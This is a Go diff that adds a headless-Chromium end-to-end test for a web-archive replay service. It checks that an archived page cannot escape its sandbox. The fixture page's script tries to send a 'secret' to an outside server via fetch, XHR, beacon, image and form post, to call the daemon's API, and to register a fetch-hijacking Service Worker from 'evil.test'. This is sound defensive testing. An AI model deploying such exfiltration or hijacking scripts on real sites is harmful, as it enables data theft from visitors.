@@ -7,12 +7,17 @@ import (
 	"io"
 	"net"
 	"net/http"
+	"net/http/httptest"
 	"net/url"
 	"os"
 	"path/filepath"
 	"strings"
+	"sync"
 	"testing"
 	"time"
+
+	"github.com/chromedp/cdproto/network"
+	"github.com/chromedp/chromedp"
 
 	"github.com/wayside-archive/wayside/replay"
 	"github.com/wayside-archive/wayside/sidecar"
@@ -349,4 +354,152 @@ func TestE2EPublicAccessRules(t *testing.T) {
 			}
 		}
 	})
+}
+
+// TestE2EPublicChromiumSecurity replays, through the public front in
+// headless Chromium, an archived page whose script tries to reach the
+// daemon's API and the public API (fetch, XHR), an outside host (a second
+// loopback server: fetch, XHR, beacon, image, form post), to register a
+// Service Worker and to read the CDX API from its own origin, and whose
+// archived response sets a cookie: nothing reaches the outside host or an
+// API, no Service Worker is registered and no cookie is set.
+func TestE2EPublicChromiumSecurity(t *testing.T) {
+	exe := chromium(t)
+	var mu sync.Mutex
+	var outside []string
+	out := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		outside = append(outside, r.Method+" "+r.URL.RequestURI())
+		mu.Unlock()
+		w.Header().Set("Access-Control-Allow-Origin", "*")
+		io.WriteString(w, "<html><title>outside</title></html>")
+	}))
+	defer out.Close()
+
+	dir := t.TempDir()
+	warcs := filepath.Join(dir, "warcs")
+	os.MkdirAll(warcs, 0o755)
+	os.MkdirAll(filepath.Join(dir, "rules"), 0o755)
+	d := startDaemon(t, dir, publicConfig)
+	var st sidecar.AccessState
+	if err := d.client.GetJSON(context.Background(), "/v1/access", &st); err != nil {
+		t.Fatal(err)
+	}
+	pub := st.Fronts[0]
+	when := time.Date(2021, 3, 4, 5, 6, 7, 0, time.UTC)
+	ts := when.Format("20060102150405")
+	page := `<html><head><title>archived</title></head><body>
+<form id="f1" method="POST" action="` + out.URL + `/collect?form"><input name="x" value="secret"></form>
+<form id="f2" method="POST" action="` + d.tcp + `/v1/access/rules"><input name="x" value="1"></form>
+<script>
+const results = {};
+function submitForms() {
+  try { document.getElementById("f1").submit(); } catch (e) {}
+  try { document.getElementById("f2").submit(); } catch (e) {}
+}
+async function attempt(name, fn) {
+  try { results[name] = "ok:" + await fn(); } catch (e) { results[name] = "err:" + e; }
+}
+function xhr(u) {
+  return new Promise((res, rej) => { const x = new XMLHttpRequest(); x.open("GET", u); x.onload = () => res(x.status); x.onerror = () => rej("error"); x.send(); });
+}
+(async () => {
+  const OUT = "` + out.URL + `", API = "` + d.tcp + `", PUB = "` + pub.URL + `";
+  await attempt("fetch_daemon", async () => (await fetch(API + "/v1/status")).status);
+  await attempt("fetch_public_api", async () => (await fetch(PUB + "/default/cdx?url=*.test")).status);
+  await attempt("xhr_daemon", () => xhr(API + "/metrics"));
+  await attempt("fetch_outside", async () => (await fetch(OUT + "/collect?fetch", {method: "POST", body: "secret"})).status);
+  await attempt("xhr_outside", () => xhr(OUT + "/collect?xhr"));
+  await attempt("beacon", async () => navigator.sendBeacon(OUT + "/collect?beacon", "secret"));
+  await attempt("img", () => new Promise((res, rej) => { const i = new Image(); i.onload = () => res("loaded"); i.onerror = () => rej("error"); i.src = OUT + "/collect?img"; }));
+  await attempt("sw", async () => (await navigator.serviceWorker.register("/default/` + ts + `id_/http://evil.test/sw.js")).scope);
+  await attempt("cdx_same_origin", async () => (await fetch("/default/cdx?url=*.test")).status);
+  window.results = results;
+  document.title = "done";
+})();
+</script></body></html>`
+	recs := []warcRec{
+		{Type: "response", URI: "http://evil.test/page", Date: when, ID: recID(1), Body: []byte(page),
+			Headers: []string{"Set-Cookie: session=archived; Path=/", "Strict-Transport-Security: max-age=31536000", "Clear-Site-Data: \"cookies\""}},
+		{Type: "response", URI: "http://evil.test/sw.js", Date: when, ID: recID(2), MIME: "application/javascript",
+			Body: []byte(`self.addEventListener("fetch", e => e.respondWith(new Response("hijacked")));`)},
+	}
+	var warc []byte
+	for _, r := range recs {
+		warc = append(warc, r.bytes()...)
+	}
+	if err := os.WriteFile(filepath.Join(warcs, "evil.warc.gz"), warc, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	urim := pub.ContentURL + "/default/" + ts + "/http://evil.test/page"
+	waitFor(t, "ingest", func() bool {
+		resp, _ := get(t, urim, nil)
+		return resp.StatusCode == 200
+	})
+
+	actx, cancel := chromedp.NewExecAllocator(context.Background(), append(chromedp.DefaultExecAllocatorOptions[:],
+		chromedp.ExecPath(exe), chromedp.NoSandbox, chromedp.Flag("user-data-dir", t.TempDir()))...)
+	defer cancel()
+	bctx, cancel := chromedp.NewContext(actx)
+	defer cancel()
+	tctx, tcancel := context.WithTimeout(bctx, 90*time.Second)
+	defer tcancel()
+	if err := chromedp.Do(tctx, chromedp.Navigate(urim)); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := chromedp.Run(tctx, chromedp.Poll[bool](`document.title === "done"`)); err != nil {
+		t.Fatal(err)
+	}
+	results, err := chromedp.Run(tctx, chromedp.Evaluate[map[string]any](`results`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Logf("results: %v", results)
+	for _, k := range []string{"fetch_daemon", "fetch_public_api", "xhr_daemon", "fetch_outside", "xhr_outside", "img", "sw"} {
+		v, _ := results[k].(string)
+		if !strings.HasPrefix(v, "err:") && !strings.HasPrefix(v, "ok:4") {
+			t.Errorf("%s: %q, want it refused", k, v)
+		}
+	}
+	if v := results["cdx_same_origin"]; v != "ok:404" {
+		t.Errorf("the content origin answered a CDX query: %v", v)
+	}
+	regs, err := chromedp.Run(tctx, chromedp.Evaluate[int](`navigator.serviceWorker.getRegistrations().then(r => r.length)`, chromedp.EvalAwaitPromise))
+	if err != nil || regs != 0 {
+		t.Errorf("service worker registrations: %d (%v)", regs, err)
+	}
+	cookies, err := chromedp.Call(tctx, network.GetCookies, network.GetCookiesParams{URLs: []string{urim, pub.URL, d.tcp}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(cookies.Cookies) != 0 {
+		t.Errorf("cookies reached the browser: %v", cookies.Cookies)
+	}
+	// The forms last (a submission that went through would leave the page).
+	if _, err := chromedp.Run(tctx, chromedp.Evaluate[any](`submitForms()`)); err != nil {
+		t.Fatal(err)
+	}
+	// A form's action is rewritten into the archive: the post goes to the
+	// content origin (which refuses it), never elsewhere.
+	formURL, err := chromedp.Run(tctx, chromedp.Poll[string](`location.href.startsWith("`+pub.ContentURL+`/") && document.readyState === "complete" ? location.href : null`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Logf("after the form posts the page is at %s", formURL)
+	// Leave the page (any beacon is sent by then), ending at the outside
+	// server: it must have seen that navigation only.
+	if err := chromedp.Do(tctx, chromedp.Navigate(out.URL+"/end")); err != nil {
+		t.Fatal(err)
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	var got []string
+	for _, r := range outside {
+		if r != "GET /end" && r != "GET /favicon.ico" {
+			got = append(got, r)
+		}
+	}
+	if len(got) > 0 {
+		t.Errorf("the archived page reached the outside host: %v", got)
+	}
 }
